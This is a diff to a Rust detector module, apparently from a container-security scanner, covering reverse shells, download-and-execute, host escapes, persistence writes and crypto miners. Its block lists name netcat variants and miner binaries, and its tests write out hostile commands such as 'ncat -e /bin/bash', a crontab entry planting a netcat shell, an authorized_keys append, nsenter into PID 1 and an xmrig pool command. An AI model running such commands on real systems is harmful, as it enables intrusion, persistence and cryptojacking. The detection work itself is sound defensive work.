@@ -16,16 +16,46 @@ const INTERPRETERS: &[&str] = &[
     "ruby", "node", "php", "lua",
 ];
 const DOWNLOADERS: &[&str] = &[
-    "curl", "wget", "fetch", "aria2c", "tftp", "lwp-download", "lwp-request",
+    "curl",
+    "wget",
+    "fetch",
+    "aria2c",
+    "tftp",
+    "lwp-download",
+    "lwp-request",
 ];
-const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"];
+const NETCATS: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "nc.traditional",
+    "nc.openbsd",
+    "telnet",
+];
 const CONTAINER_CLIS: &[&str] = &[
     "docker", "kubectl", "crictl", "ctr", "podman", "nerdctl", "runc", "oc",
 ];
 const MINERS: &[&str] = &[
-    "xmrig", "xmr-stak", "xmr-stak-cpu", "minerd", "cpuminer", "ccminer", "t-rex", "lolminer",
-    "nbminer", "phoenixminer", "nanominer", "kdevtmpfsi", "kinsing", "cgminer", "bfgminer",
-    "ethminer", "gminer", "teamredminer", "srbminer", "srbminer-multi",
+    "xmrig",
+    "xmr-stak",
+    "xmr-stak-cpu",
+    "minerd",
+    "cpuminer",
+    "ccminer",
+    "t-rex",
+    "lolminer",
+    "nbminer",
+    "phoenixminer",
+    "nanominer",
+    "kdevtmpfsi",
+    "kinsing",
+    "cgminer",
+    "bfgminer",
+    "ethminer",
+    "gminer",
+    "teamredminer",
+    "srbminer",
+    "srbminer-multi",
 ];
 
 /// The shell text a container runs: `sh -c` bodies, else the argv joined. Lifecycle exec
@@ -193,10 +223,10 @@ fn parse(script: &str) -> Parsed {
             }
             '\\' => {
                 in_word = true;
-                if let Some(n) = chars.get(i + 1) {
-                    if *n != '\n' {
-                        word.push(*n);
-                    }
+                if let Some(n) = chars.get(i + 1)
+                    && *n != '\n'
+                {
+                    word.push(*n);
                 }
                 i += 2;
             }
@@ -215,7 +245,8 @@ fn parse(script: &str) -> Parsed {
                     j += 1;
                 }
                 word.push_str(&format!("{SUB_MARK}{}", p.subs.len()));
-                p.subs.push(chars[start..j.min(chars.len())].iter().collect());
+                p.subs
+                    .push(chars[start..j.min(chars.len())].iter().collect());
                 i = j + 1;
             }
             '|' | '&' | ';' | '\n' => {
@@ -293,8 +324,13 @@ fn balanced(chars: &[char], start: usize) -> (String, usize) {
 fn is_downloader(name: &str, args: &[&str]) -> bool {
     DOWNLOADERS.contains(&name)
         || (name.starts_with("python")
-            && args.iter().any(|a| a.contains("urllib") || a.contains("requests.get")))
-        || (name == "perl" && args.iter().any(|a| a.contains("LWP") || a.contains("HTTP::Tiny")))
+            && args
+                .iter()
+                .any(|a| a.contains("urllib") || a.contains("requests.get")))
+        || (name == "perl"
+            && args
+                .iter()
+                .any(|a| a.contains("LWP") || a.contains("HTTP::Tiny")))
 }
 
 fn is_interpreter(name: &str) -> bool {
@@ -303,40 +339,55 @@ fn is_interpreter(name: &str) -> bool {
 
 fn is_decoder(name: &str, args: &[&str]) -> bool {
     (name == "base64" || name == "base32")
-        && args
-            .iter()
-            .any(|a| matches!(*a, "-d" | "--decode" | "-D") || (a.starts_with('-') && !a.starts_with("--") && a.contains('d')))
-        || (name == "openssl"
-            && args.iter().any(|a| a.contains("base64"))
-            && args.contains(&"-d"))
+        && args.iter().any(|a| {
+            matches!(*a, "-d" | "--decode" | "-D")
+                || (a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
+        })
+        || (name == "openssl" && args.iter().any(|a| a.contains("base64")) && args.contains(&"-d"))
         || (name == "xxd" && args.contains(&"-r"))
 }
 
 /// Does the script (or a substitution inside it) run a command matching `pred`?
 fn any_cmd(p: &Parsed, pred: &dyn Fn(&str, &[&str]) -> bool) -> bool {
-    p.pipelines
-        .iter()
-        .flatten()
-        .any(|c| {
-            let (n, a) = c.name_and_args();
-            pred(n, &a)
-        })
-        || p.subs.iter().any(|s| any_cmd(&parse(s), pred))
+    p.pipelines.iter().flatten().any(|c| {
+        let (n, a) = c.name_and_args();
+        pred(n, &a)
+    }) || p.subs.iter().any(|s| any_cmd(&parse(s), pred))
 }
 
 /// Which substitutions of `word` satisfy `pred`.
 fn word_subs_match(word: &str, p: &Parsed, pred: &dyn Fn(&str, &[&str]) -> bool) -> bool {
-    p.subs.iter().enumerate().any(|(i, s)| {
-        word.contains(&format!("{SUB_MARK}{i}")) && any_cmd(&parse(s), pred)
-    })
+    p.subs
+        .iter()
+        .enumerate()
+        .any(|(i, s)| word.contains(&format!("{SUB_MARK}{i}")) && any_cmd(&parse(s), pred))
+}
+
+/// A script parsed once; every detector reads the same parse.
+#[derive(Debug)]
+pub struct Script {
+    pub text: String,
+    parsed: Parsed,
+}
+
+impl Script {
+    pub fn new(text: String) -> Script {
+        let parsed = parse(&text);
+        Script { text, parsed }
+    }
+}
+
+/// Parse texts for the detectors.
+pub fn parse_all(texts: &[String]) -> Vec<Script> {
+    texts.iter().map(|t| Script::new(t.clone())).collect()
 }
 
 /// Run a detector over every script and collect what it matched.
-fn each(scripts: &[String], detect: fn(&str, &Parsed) -> Option<String>) -> Vec<String> {
+fn each(scripts: &[Script], detect: fn(&str, &Parsed) -> Option<String>) -> Vec<String> {
     let mut out = Vec::new();
-    for s in scripts {
-        let parsed = parse(s);
-        if let Some(m) = detect(s, &parsed) {
+    for script in scripts {
+        let (s, parsed) = (&script.text, &script.parsed);
+        if let Some(m) = detect(s, parsed) {
             out.push(m);
         }
         // Nested substitutions are analysed as scripts of their own.
@@ -363,7 +414,7 @@ fn snippet(s: &str) -> String {
 
 /// A download whose content is executed: piped to an interpreter, fed through `$(…)` or
 /// `<(…)` to one, or saved and then run.
-pub fn download_exec(scripts: &[String]) -> Vec<String> {
+pub fn download_exec(scripts: &[Script]) -> Vec<String> {
     each(scripts, |s, p| {
         for pl in &p.pipelines {
             let names: Vec<(&str, Vec<&str>)> = pl.iter().map(Cmd::name_and_args).collect();
@@ -375,7 +426,9 @@ pub fn download_exec(scripts: &[String]) -> Vec<String> {
             for c in pl {
                 let (n, args) = c.name_and_args();
                 if (is_interpreter(n) || n == "eval" || n == "source" || n == ".")
-                    && args.iter().any(|a| word_subs_match(a, p, &|n, a| is_downloader(n, a)))
+                    && args
+                        .iter()
+                        .any(|a| word_subs_match(a, p, &|n, a| is_downloader(n, a)))
                 {
                     return Some(snippet(s));
                 }
@@ -388,8 +441,12 @@ pub fn download_exec(scripts: &[String]) -> Vec<String> {
             if is_downloader(n, &args) {
                 for (i, a) in args.iter().enumerate() {
                     let out = match *a {
-                        "-o" | "-O" | "--output" | "--output-document" | ">" => args.get(i + 1).copied(),
-                        a if a.starts_with("--output=") || a.starts_with("--output-document=") => a.split_once('=').map(|x| x.1),
+                        "-o" | "-O" | "--output" | "--output-document" | ">" => {
+                            args.get(i + 1).copied()
+                        }
+                        a if a.starts_with("--output=") || a.starts_with("--output-document=") => {
+                            a.split_once('=').map(|x| x.1)
+                        }
                         _ => None,
                     };
                     if let Some(f) = out.filter(|f| !f.starts_with('-') && *f != "/dev/null") {
@@ -410,7 +467,7 @@ pub fn download_exec(scripts: &[String]) -> Vec<String> {
 }
 
 /// Encoded payloads decoded straight into an interpreter.
-pub fn base64_exec(scripts: &[String]) -> Vec<String> {
+pub fn base64_exec(scripts: &[Script]) -> Vec<String> {
     each(scripts, |s, p| {
         for pl in &p.pipelines {
             let names: Vec<(&str, Vec<&str>)> = pl.iter().map(Cmd::name_and_args).collect();
@@ -428,7 +485,10 @@ pub fn base64_exec(scripts: &[String]) -> Vec<String> {
                 }
                 if (n.starts_with("python") || n == "perl" || n == "ruby" || n == "node")
                     && args.iter().any(|a| {
-                        (a.contains("b64decode") || a.contains("decode_base64") || a.contains("Base64.decode") || a.contains("atob("))
+                        (a.contains("b64decode")
+                            || a.contains("decode_base64")
+                            || a.contains("Base64.decode")
+                            || a.contains("atob("))
                             && (a.contains("exec") || a.contains("eval") || a.contains("system"))
                     })
                 {
@@ -442,7 +502,7 @@ pub fn base64_exec(scripts: &[String]) -> Vec<String> {
 
 /// Reverse shells: netcat `-e`, bash `/dev/tcp`, socat exec, scripted socket shells, fifo
 /// loops.
-pub fn reverse_shell(scripts: &[String]) -> Vec<String> {
+pub fn reverse_shell(scripts: &[Script]) -> Vec<String> {
     each(scripts, |s, p| {
         for pl in &p.pipelines {
             let names: Vec<(&str, Vec<&str>)> = pl.iter().map(Cmd::name_and_args).collect();
@@ -452,7 +512,10 @@ pub fn reverse_shell(scripts: &[String]) -> Vec<String> {
                         matches!(*a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                             || a.starts_with("--exec=")
                             || a.starts_with("--sh-exec=")
-                            || (a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && a.ends_with('e'))
+                            || (a.starts_with('-')
+                                && !a.starts_with("--")
+                                && a.len() > 2
+                                && a.ends_with('e'))
                     })
                 {
                     return Some(snippet(s));
@@ -466,23 +529,45 @@ pub fn reverse_shell(scripts: &[String]) -> Vec<String> {
                 {
                     return Some(snippet(s));
                 }
-                if (n.starts_with("python") || matches!(*n, "perl" | "ruby" | "php" | "lua" | "node"))
+                if (n.starts_with("python")
+                    || matches!(*n, "perl" | "ruby" | "php" | "lua" | "node"))
                     && args.iter().any(|a| {
                         let l = a.to_ascii_lowercase();
-                        (l.contains("socket") || l.contains("tcpsocket") || l.contains("fsockopen") || l.contains("net.socket"))
-                            && ["subprocess", "pty.spawn", "dup2", "exec(", "/bin/sh", "/bin/bash", "spawn", "popen", "system("]
-                                .iter()
-                                .any(|k| l.contains(k))
+                        (l.contains("socket")
+                            || l.contains("tcpsocket")
+                            || l.contains("fsockopen")
+                            || l.contains("net.socket"))
+                            && [
+                                "subprocess",
+                                "pty.spawn",
+                                "dup2",
+                                "exec(",
+                                "/bin/sh",
+                                "/bin/bash",
+                                "spawn",
+                                "popen",
+                                "system(",
+                            ]
+                            .iter()
+                            .any(|k| l.contains(k))
                     })
                 {
                     return Some(snippet(s));
                 }
             }
-            if pl.iter().flat_map(|c| c.words.iter()).any(|w| w.contains("/dev/tcp/") || w.contains("/dev/udp/")) {
+            if pl
+                .iter()
+                .flat_map(|c| c.words.iter())
+                .any(|w| w.contains("/dev/tcp/") || w.contains("/dev/udp/"))
+            {
                 return Some(snippet(s));
             }
             // `cat f | sh -i | nc host port > f`: a shell wired to a network pipe.
-            if names.iter().any(|(n, _)| SHELLS.contains(n)) && names.iter().any(|(n, _)| NETCATS.contains(n) || *n == "openssl") {
+            if names.iter().any(|(n, _)| SHELLS.contains(n))
+                && names
+                    .iter()
+                    .any(|(n, _)| NETCATS.contains(n) || *n == "openssl")
+            {
                 return Some(snippet(s));
             }
         }
@@ -491,7 +576,7 @@ pub fn reverse_shell(scripts: &[String]) -> Vec<String> {
 }
 
 /// `nsenter` into PID 1's namespaces: a shell on the node.
-pub fn nsenter_host(scripts: &[String]) -> Vec<String> {
+pub fn nsenter_host(scripts: &[Script]) -> Vec<String> {
     each(scripts, |s, p| {
         for c in p.pipelines.iter().flatten() {
             // nsenter may be the command, or the program another tool runs
@@ -514,17 +599,22 @@ pub fn nsenter_host(scripts: &[String]) -> Vec<String> {
 }
 
 /// `chroot` into one of `targets` (where host paths are mounted in the container).
-pub fn chroot_into(scripts: &[String], targets: &[String]) -> Vec<String> {
+pub fn chroot_into(scripts: &[Script], targets: &[&str]) -> Vec<String> {
     let mut out = Vec::new();
-    for s in scripts {
-        for c in parse(s).pipelines.iter().flatten() {
+    for script in scripts {
+        let s = &script.text;
+        for c in script.parsed.pipelines.iter().flatten() {
             let (n, args) = c.name_and_args();
             if n != "chroot" {
                 continue;
             }
             if let Some(dir) = args.iter().find(|a| !a.starts_with('-'))
                 && targets.iter().any(|t| {
-                    let (d, t) = (portcullis_model::hostpath::clean(dir), portcullis_model::hostpath::clean(t));
+                    let (d, t) = (
+                        portcullis_model::hostpath::clean(dir),
+                        portcullis_model::hostpath::clean(t),
+                    );
+                    let t = t.as_str();
                     d == t && t != "/"
                 })
             {
@@ -545,29 +635,48 @@ const POOL_PORTS: &[&str] = &[
 ];
 
 /// Mining: pool URLs, miner binaries, algorithm and donation flags, wallet addresses.
-pub fn miner(scripts: &[String]) -> Vec<String> {
+pub fn miner(scripts: &[Script]) -> Vec<String> {
     let mut out = Vec::new();
-    for s in scripts {
-        let parsed = parse(s);
-        for c in parsed.pipelines.iter().flatten() {
+    for script in scripts {
+        for c in script.parsed.pipelines.iter().flatten() {
             let (n, args) = c.name_and_args();
             if MINERS.contains(&n.to_ascii_lowercase().as_str()) {
                 out.push(format!("miner binary {n}"));
             }
             for (i, a) in args.iter().enumerate() {
                 let l = a.to_ascii_lowercase();
-                let next = args.get(i + 1).map(|x| x.to_ascii_lowercase()).unwrap_or_default();
+                let next = args
+                    .get(i + 1)
+                    .map(|x| x.to_ascii_lowercase())
+                    .unwrap_or_default();
                 let value = l.split_once('=').map(|x| x.1.to_string());
-                if l.contains("stratum+") || l.contains("stratum2+") {
-                    out.push((*a).to_string());
-                } else if matches!(l.split('=').next(), Some("--donate-level" | "--coin" | "--randomx-mode" | "--cpu-priority")) {
+                if l.contains("stratum+")
+                    || l.contains("stratum2+")
+                    || matches!(
+                        l.split('=').next(),
+                        Some("--donate-level" | "--coin" | "--randomx-mode" | "--cpu-priority")
+                    )
+                {
                     out.push((*a).to_string());
                 } else if matches!(l.as_str(), "-a" | "--algo") || l.starts_with("--algo=") {
                     let alg = value.unwrap_or(next);
-                    if ["rx/", "cn/", "randomx", "cryptonight", "ethash", "kawpow", "argon2"].iter().any(|k| alg.contains(k)) {
+                    if [
+                        "rx/",
+                        "cn/",
+                        "randomx",
+                        "cryptonight",
+                        "ethash",
+                        "kawpow",
+                        "argon2",
+                    ]
+                    .iter()
+                    .any(|k| alg.contains(k))
+                    {
                         out.push(format!("{a} {alg}"));
                     }
-                } else if matches!(l.as_str(), "-o" | "--url" | "-url" | "--pool") || l.starts_with("--url=") {
+                } else if matches!(l.as_str(), "-o" | "--url" | "-url" | "--pool")
+                    || l.starts_with("--url=")
+                {
                     let url = value.unwrap_or(next);
                     let port = url.rsplit(':').next().unwrap_or("");
                     if url.contains("pool") || POOL_PORTS.contains(&port) {
@@ -615,15 +724,22 @@ fn is_persistence_path(p: &str) -> bool {
 
 /// Writes into persistence locations: `>`/`>>` redirections, `tee`, `cp`/`mv`/`install`
 /// targets.
-pub fn persistence_write(scripts: &[String]) -> Vec<String> {
+pub fn persistence_write(scripts: &[Script]) -> Vec<String> {
     each(scripts, |s, p| {
         for c in p.pipelines.iter().flatten() {
             let w = &c.words;
-            let redirect = w.windows(2).any(|x| x[0].starts_with('>') && is_persistence_path(&x[1]));
+            let redirect = w
+                .windows(2)
+                .any(|x| x[0].starts_with('>') && is_persistence_path(&x[1]));
             let (n, args) = c.name_and_args();
             let tool = match n {
-                "tee" => args.iter().any(|a| !a.starts_with('-') && is_persistence_path(a)),
-                "cp" | "mv" | "install" | "ln" => args.iter().filter(|a| !a.starts_with('-')).last().is_some_and(|a| is_persistence_path(a)),
+                "tee" => args
+                    .iter()
+                    .any(|a| !a.starts_with('-') && is_persistence_path(a)),
+                "cp" | "mv" | "install" | "ln" => args
+                    .iter()
+                    .rfind(|a| !a.starts_with('-'))
+                    .is_some_and(|a| is_persistence_path(a)),
                 _ => false,
             };
             if redirect || tool {
@@ -635,14 +751,16 @@ pub fn persistence_write(scripts: &[String]) -> Vec<String> {
 }
 
 /// Container or cluster CLIs run from inside a container.
-pub fn container_cli(scripts: &[String]) -> Vec<String> {
+pub fn container_cli(scripts: &[Script]) -> Vec<String> {
     each(scripts, |s, p| {
         any_cmd(p, &|n, args| {
             // `kubectl version --client`, `docker --help`: looking, not acting.
             let sub = args.iter().find(|a| !a.starts_with('-'));
             let harmless = match sub {
                 Some(s) => matches!(*s, "version" | "help" | "completion"),
-                None => args.iter().any(|a| matches!(*a, "--version" | "--help" | "-h" | "-v")),
+                None => args
+                    .iter()
+                    .any(|a| matches!(*a, "--version" | "--help" | "-h" | "-v")),
             };
             CONTAINER_CLIS.contains(&n) && !harmless
         })
@@ -654,8 +772,8 @@ pub fn container_cli(scripts: &[String]) -> Vec<String> {
 mod tests {
     use super::*;
 
-    fn v(s: &[&str]) -> Vec<String> {
-        s.iter().map(|x| x.to_string()).collect()
+    fn v(s: &[&str]) -> Vec<Script> {
+        s.iter().map(|x| Script::new(x.to_string())).collect()
     }
 
     #[test]
@@ -664,8 +782,14 @@ mod tests {
             script_of(&["/bin/sh", "-c", "--", "ncat -e /bin/bash;"]).as_deref(),
             Some("ncat -e /bin/bash;")
         );
-        assert_eq!(script_of(&["bash", "-ec", "echo hi", "arg0"]).as_deref(), Some("echo hi"));
-        assert_eq!(script_of(&["nginx", "-g", "daemon off;"]).as_deref(), Some("nginx -g daemon off;"));
+        assert_eq!(
+            script_of(&["bash", "-ec", "echo hi", "arg0"]).as_deref(),
+            Some("echo hi")
+        );
+        assert_eq!(
+            script_of(&["nginx", "-g", "daemon off;"]).as_deref(),
+            Some("nginx -g daemon off;")
+        );
     }
 
     #[test]
@@ -694,7 +818,12 @@ mod tests {
     #[test]
     fn encoded_and_reverse_shells() {
         assert!(!base64_exec(&v(&["echo ZWNobyBoaQ== | base64 -d | sh"])).is_empty());
-        assert!(!base64_exec(&v(&["python3 -c 'import base64;exec(base64.b64decode(\"eA==\"))'"])).is_empty());
+        assert!(
+            !base64_exec(&v(&[
+                "python3 -c 'import base64;exec(base64.b64decode(\"eA==\"))'"
+            ]))
+            .is_empty()
+        );
         assert!(base64_exec(&v(&["echo aGk= | base64 -d > out.txt"])).is_empty());
         for s in [
             "ncat --ssl $HOST $PORT -e /bin/bash;",
@@ -707,7 +836,11 @@ mod tests {
         ] {
             assert!(!reverse_shell(&v(&[s])).is_empty(), "{s}");
         }
-        for s in ["nc -z db 5432", "while true; do sleep 30; done;", "echo /dev/tcp is fun"] {
+        for s in [
+            "nc -z db 5432",
+            "while true; do sleep 30; done;",
+            "echo /dev/tcp is fun",
+        ] {
             // the last one names /dev/tcp as text inside an echo argument: still a word
             // containing /dev/tcp/ — only a path with a trailing host counts.
             if s.starts_with("echo") {
@@ -719,24 +852,43 @@ mod tests {
 
     #[test]
     fn host_escape_commands() {
-        assert!(!nsenter_host(&v(&["nsenter --target 1 --mount --uts --ipc --net --pid -- bash"])).is_empty());
+        assert!(
+            !nsenter_host(&v(&[
+                "nsenter --target 1 --mount --uts --ipc --net --pid -- bash"
+            ]))
+            .is_empty()
+        );
         assert!(!nsenter_host(&v(&["nsenter --mount=/proc/1/ns/mnt -- /bin/bash"])).is_empty());
         assert!(nsenter_host(&v(&["nsenter -t 4242 -n ip a"])).is_empty());
-        assert!(!chroot_into(&v(&["chroot /mnt id"]), &v(&["/mnt"])).is_empty());
-        assert!(chroot_into(&v(&["chroot /mnt id"]), &v(&["/data"])).is_empty());
+        assert!(!chroot_into(&v(&["chroot /mnt id"]), &["/mnt"]).is_empty());
+        assert!(chroot_into(&v(&["chroot /mnt id"]), &["/data"]).is_empty());
     }
 
     #[test]
     fn persistence_writes() {
-        assert!(!persistence_write(&v(&["echo \"* * * * * root nc -e /bin/sh 1.2.3.4 1\" >> ../../../../etc/crontab"])).is_empty());
-        assert!(!persistence_write(&v(&["cat key | tee -a /host/root/.ssh/authorized_keys"])).is_empty());
-        assert!(!persistence_write(&v(&["cp evil.yaml /host/etc/kubernetes/manifests/"])).is_empty());
-        assert!(persistence_write(&v(&["echo hi > /tmp/crontab-notes", "cat /etc/crontab"])).is_empty());
+        assert!(
+            !persistence_write(&v(&[
+                "echo \"* * * * * root nc -e /bin/sh 1.2.3.4 1\" >> ../../../../etc/crontab"
+            ]))
+            .is_empty()
+        );
+        assert!(
+            !persistence_write(&v(&["cat key | tee -a /host/root/.ssh/authorized_keys"]))
+                .is_empty()
+        );
+        assert!(
+            !persistence_write(&v(&["cp evil.yaml /host/etc/kubernetes/manifests/"])).is_empty()
+        );
+        assert!(
+            persistence_write(&v(&["echo hi > /tmp/crontab-notes", "cat /etc/crontab"])).is_empty()
+        );
     }
 
     #[test]
     fn miners_and_clis() {
-        let m = miner(&v(&["xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1"]));
+        let m = miner(&v(&[
+            "xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level=1",
+        ]));
         assert!(m.iter().any(|x| x.contains("miner binary")));
         assert!(m.iter().any(|x| x.starts_with("wallet")));
         assert!(m.iter().any(|x| x.contains("donate")));
